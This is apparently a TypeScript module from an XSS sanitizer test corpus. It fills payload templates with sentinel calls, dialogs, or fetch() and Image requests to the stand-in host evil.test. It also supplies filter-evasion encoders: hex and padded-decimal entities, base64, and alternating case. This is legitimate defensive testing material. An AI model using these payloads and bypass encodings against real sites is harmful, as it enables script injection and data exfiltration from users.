/**
 * How the hostile-input corpus is written down. Each class file lists vectors as templates; `index.ts` turns
 * them into payloads with an id each, and fills in the sentinel so that a payload that runs or reaches out says
 * which one it was.
 *
 * Tokens in a template (chosen so they never occur in a real vector):
 * - `§X§` a script statement that reports execution: it calls the sentinel `__ccXss(id)` (through `window`,
 *   `top`, `parent` or `self[...]`), opens a dialog (`alert`, `confirm`) or fetches / loads an image from the
 *   foreign host `evil.test`. Which of these a payload uses rotates, so every observer is exercised. The
 *   statement contains no quotes (strings are written as regular-expression sources), so it fits in any
 *   attribute, URL or script context.
 * - `§U§` an absolute exfiltration URL on the foreign host: `https://evil.test/u/<id>`.
 * - `§P§` the same as a protocol-relative URL: `//evil.test/p/<id>`.
 * - `§ID§` the payload's id.
 */

/** The vector classes of the corpus, one data file each. */
export const VECTOR_CLASSES = [
  'event-handlers',
  'url-schemes',
  'protocol-relative',
  'svg-mathml',
  'mutation-xss',
  'template-injection',
  'css-injection',
  'unicode',
  'oversized-control',
] as const;
export type VectorClass = (typeof VECTOR_CLASSES)[number];

/** One entry of a class file: the template, or a function of the filled-in tokens for encoded forms (base64, entities). */
export type Vector = string | ((tokens: Tokens) => string);

export interface Tokens {
  readonly x: string;
  readonly u: string;
  readonly p: string;
  readonly id: string;
}

/** The name of the sentinel function a payload calls when it runs. */
export const SENTINEL = '__ccXss';
/** The foreign host every exfiltrating payload reaches for. It never resolves (`.test` is reserved). */
export const EVIL_HOST = 'evil.test';

/** A JavaScript string without quotes or spaces: a regular expression's source (the text has no slash). */
function bare(text: string): string {
  return `/${text}/.source`;
}

/** An evil.test URL as a JavaScript expression without quotes, slashes in strings or spaces. */
function bareUrl(...segments: readonly string[]): string {
  return `[/https:/.source,,/${EVIL_HOST}/.source,${segments.map(bare).join(',')}].join(String.fromCharCode(47))`;
}

const REPORTERS: readonly ((id: string) => string)[] = [
  (id) => `window.${SENTINEL}(${bare(id)})`,
  (id) => `top.${SENTINEL}(${bare(id)})`,
  (id) => `alert(${bare(id)})`,
  (id) => `fetch(${bareUrl('f', id)})`,
  (id) => `parent.${SENTINEL}(${bare(id)})`,
  (id) => `new/**/Image().src=${bareUrl('i', id)}`,
  (id) => `confirm(${bare(id)})`,
  (id) => `self[${bare(SENTINEL)}](${bare(id)})`,
];

/** The tokens for the payload with this id; `rotation` picks how it reports (sentinel, dialog or request). */
export function tokensFor(id: string, rotation: number): Tokens {
  const report = REPORTERS[rotation % REPORTERS.length] ?? REPORTERS[0]!;
  return { x: report(id), u: `https://${EVIL_HOST}/u/${id}`, p: `//${EVIL_HOST}/p/${id}`, id };
}

/** Fills a vector's tokens. */
export function fill(vector: Vector, tokens: Tokens): string {
  const text = typeof vector === 'function' ? vector(tokens) : vector;
  return text.replace(/§X§/g, tokens.x).replace(/§U§/g, tokens.u).replace(/§P§/g, tokens.p).replace(/§ID§/g, tokens.id);
}

/**
 * Whether a vector carries a token (a reporter, an exfiltration URL or its id), that is, whether it would do or
 * name something observable if it were rendered as markup or followed as a URL. Pure spoofing vectors (direction
 * overrides, look-alike names, control characters alone) carry none.
 */
export function isActive(vector: Vector): boolean {
  return fill(vector, tokensFor('probe-a', 0)) !== fill(vector, tokensFor('probe-b', 0));
}

/** `&#xNN;` for every character: how an attribute value can hide a word from a naive filter. */
export function hexEntities(text: string): string {
  return Array.from(text, (char) => `&#x${(char.codePointAt(0) ?? 0).toString(16)};`).join('');
}

/** `&#00000NN` (zero-padded decimal, no semicolon): the older cheat-sheet spelling. */
export function paddedDecimalEntities(text: string): string {
  return Array.from(text, (char) => `&#${String(char.codePointAt(0) ?? 0).padStart(7, '0')}`).join('');
}

/** Base64 of ASCII text, for `data:…;base64,` URLs. */
export function base64(text: string): string {
  return btoa(text);
}

/** `AlTeRnAtInG` case, the oldest way around a case-sensitive filter. */
export function alternatingCase(text: string): string {
  let upper = false;
  return text.replace(/[a-z]/gi, (letter) => ((upper = !upper) ? letter.toUpperCase() : letter.toLowerCase()));
}
